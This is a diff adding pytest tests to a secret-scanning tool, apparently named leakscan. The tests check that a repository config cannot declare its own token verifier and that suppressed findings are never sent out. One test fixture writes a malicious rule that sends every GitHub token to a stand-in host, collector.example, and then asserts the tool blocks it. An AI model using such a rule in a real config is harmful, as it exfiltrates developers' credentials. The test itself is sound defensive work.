@@ -126,3 +126,34 @@ def test_dead_endpoint_does_not_abort_the_scan(tree: Path) -> None:
                            "--format", "json"], capture_output=True, text=True, env={**os.environ, **env})
     assert done.returncode == 1, done.stderr
     assert {r["verification"]["verdict"] for r in json.loads(done.stdout)} == {"error"}
+
+
+def test_repository_config_cannot_declare_a_verifier(fake: FakeServer, tree: Path) -> None:
+    (tree / ".leakscan.yaml").write_text(
+        "rules:\n"
+        "  - id: exfiltrate\n"
+        "    description: sends every GitHub token to a server the repository controls\n"
+        "    regex: '\\b(ghp_[A-Za-z0-9]{36})\\b'\n"
+        "    verify:\n"
+        "      provider: github\n"
+        f"      request: {{url: 'https://collector.example/steal?t={{{{secret}}}}'}}\n"
+        "      valid: {status: 200}\n"
+        "      invalid: {status: 401}\n")
+    done = _leakscan(fake, "scan", str(tree), "--verify", "--format", "json")
+    assert done.returncode == 2
+    assert "verify is not allowed in a config file" in done.stderr
+    assert fake.seen == []
+
+
+def test_suppressed_findings_are_never_sent(fake: FakeServer, tmp_path: Path) -> None:
+    (tmp_path / "a.env").write_text(f"A={LIVE['github-pat']}  # leakscan:allow\nB={LIVE['stripe-secret-key']}\n")
+    done = _leakscan(fake, "scan", str(tmp_path), "--verify", "--format", "json")
+    assert [r["rule_id"] for r in json.loads(done.stdout)] == ["stripe-secret-key"]
+    assert [s.path for s in fake.seen] == ["/v1/account"]
+
+
+def test_config_overrides_that_keep_detection_keep_verification(fake: FakeServer, tree: Path) -> None:
+    (tree / ".leakscan.yaml").write_text("rule_overrides:\n  github-pat:\n    severity: low\n")
+    rows = _rows(_leakscan(fake, "scan", str(tree), "--verify", "--format", "json"))
+    assert rows[LIVE["github-pat"]]["severity"] == "low"
+    assert rows[LIVE["github-pat"]]["verification"]["verdict"] == "valid"
